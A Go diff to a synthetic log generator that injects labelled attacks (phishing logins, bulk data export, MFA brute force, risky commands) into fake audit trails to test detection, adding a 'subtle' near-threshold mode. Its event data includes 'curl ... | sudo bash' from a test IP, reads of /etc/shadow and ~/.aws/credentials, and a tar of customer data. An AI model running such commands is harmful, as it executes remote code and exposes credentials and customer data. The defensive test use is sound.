@@ -33,6 +33,12 @@
 //	                own activity from the office
 //	risky_command   `curl -s http://203.0.113.99/x.sh | sudo bash` and
 //	                `cat /etc/shadow` in an otherwise normal session
+//
+// With Subtle set the attacks are smaller, to measure where detection stops:
+// the phished account opens 8 sessions over 50 minutes (6 new customers),
+// the insider pulls 700 MiB, 4 of 6 consent requests are refused, there are
+// 4 TOTP failures, the second address is used 12 minutes after the agent's
+// last activity, and the risky command is `cat ~/.aws/credentials`.
 package scenario
 
 import (
@@ -56,6 +62,7 @@ type Config struct {
 	Weeks   int       // 3; attacks go in the last one
 	Start   time.Time // Monday 2026-03-02 00:00 UTC
 	Attacks bool      // inject one attack of each kind
+	Subtle  bool      // smaller attacks, near the thresholds (see the package comment)
 }
 
 // Attack kinds.
@@ -175,7 +182,7 @@ func Generate(cfg Config) *Scenario {
 	if cfg.Attacks {
 		week := cfg.Start.AddDate(0, 0, 7*(cfg.Weeks-1))
 		for i, k := range Kinds {
-			lab.Attacks = append(lab.Attacks, g.attack(k, agents[i], week.AddDate(0, 0, i%5)))
+			lab.Attacks = append(lab.Attacks, g.attack(k, agents[i], week.AddDate(0, 0, i%5), cfg.Subtle))
 		}
 	}
 	return &Scenario{Records: chain(g.events), Labels: lab}
@@ -364,7 +371,7 @@ func (g *gen) sessionWith(a *agent, t time.Time, addr string, bytes int64, cust 
 }
 
 // attack injects one attack on a during the given day and returns its label.
-func (g *gen) attack(kind string, a *agent, day time.Time) Attack {
+func (g *gen) attack(kind string, a *agent, day time.Time, subtle bool) Attack {
 	first := len(g.events)
 	work := hours(day, a.start+2)
 	office := "198.51.100.7"
@@ -372,31 +379,43 @@ func (g *gen) attack(kind string, a *agent, day time.Time) Attack {
 	case Phished:
 		t := hours(day, math.Mod(a.start+24-6, 24)) // six hours before the shift
 		g.emit(t, "login.success", a.name, "agent", "", "203.0.113.66", map[string]string{"session": "browser"})
-		for i := 0; i < 14; i++ {
+		n, known, gap := 14, 2, 90
+		if subtle {
+			n, known, gap = 8, 2, 380
+		}
+		for i := 0; i < n; i++ {
 			cust := a.customers[i]
-			if i >= 2 {
+			if i >= known {
 				cust = g.customer()
 			}
-			g.sessionWith(a, t.Add(time.Duration(2+i*90)*time.Second), "203.0.113.66", 64<<10, cust, []string{"uptime"})
+			g.sessionWith(a, t.Add(time.Duration(2+i*gap)*time.Second), "203.0.113.66", 64<<10, cust, []string{"uptime"})
 		}
 	case InsiderBulk:
 		g.login(a, work, office)
-		id := g.sessionWith(a, work.Add(10*time.Minute), office, 2<<30, "", []string{"ls -la /srv/data", "tar czf - /srv/data/customers"})
+		first, second := int64(2<<30), int64(1<<30)
+		if subtle {
+			first, second = 400<<20, 300<<20
+		}
+		id := g.sessionWith(a, work.Add(10*time.Minute), office, first, "", []string{"ls -la /srv/data", "tar czf - /srv/data/customers"})
 		// a second sftp channel in the same session
 		g.emit(work.Add(50*time.Minute), "channel.closed", a.name, "agent", id, office, map[string]string{
-			"agent": a.name, "channel": "sftp", "bytes_out": fmt.Sprint(int64(1 << 30)), "bytes_in": "4096"})
+			"agent": a.name, "channel": "sftp", "bytes_out": fmt.Sprint(second), "bytes_in": "4096"})
 	case DenialBurst:
 		g.login(a, work, office)
 		for i := 0; i < 6; i++ {
 			bytes := int64(-1)
-			if i == 2 {
+			if i == 2 || (subtle && i == 4) {
 				bytes = 0
 			}
 			g.sessionWith(a, work.Add(time.Duration(5+i*7)*time.Minute), office, bytes, g.customer(), nil)
 		}
 	case MFABruteForce:
 		t := hours(day, a.start+5)
-		for i := 0; i < 8; i++ {
+		tries := 8
+		if subtle {
+			tries = 4
+		}
+		for i := 0; i < tries; i++ {
 			at := t.Add(time.Duration(i*35) * time.Second)
 			g.emit(at, "login.mfa_failure", a.name, "agent", "", "203.0.113.77", nil)
 			g.emit(at, "login.failure", a.name, "agent", "", "203.0.113.77", map[string]string{"why": "wrong or reused TOTP code"})
@@ -406,11 +425,24 @@ func (g *gen) attack(kind string, a *agent, day time.Time) Attack {
 	case TwoAddresses:
 		g.login(a, work, office)
 		g.session(a, work.Add(5*time.Minute), office, 0)
-		g.emit(work.Add(8*time.Minute), "login.success", a.name, "agent", "", "203.0.113.88", map[string]string{"session": "browser"})
+		at := work.Add(8 * time.Minute)
+		if subtle {
+			// 12 minutes after the agent's last activity
+			for _, e := range g.events[first:] {
+				if e.Time.After(at) {
+					at = e.Time
+				}
+			}
+			at = at.Add(12 * time.Minute)
+		}
+		g.emit(at, "login.success", a.name, "agent", "", "203.0.113.88", map[string]string{"session": "browser"})
 	case RiskyCommand:
 		g.login(a, work, office)
-		g.sessionWith(a, work.Add(10*time.Minute), office, 0, "", []string{
-			"uptime", "curl -s http://203.0.113.99/x.sh | sudo bash", "cat /etc/shadow"})
+		cmds := []string{"uptime", "curl -s http://203.0.113.99/x.sh | sudo bash", "cat /etc/shadow"}
+		if subtle {
+			cmds = []string{"uptime", "cat ~/.aws/credentials"}
+		}
+		g.sessionWith(a, work.Add(10*time.Minute), office, 0, "", cmds)
 	}
 	lab := Attack{Kind: kind, Agent: a.name, From: g.events[first].Time, To: g.events[first].Time}
 	for _, e := range g.events[first:] {
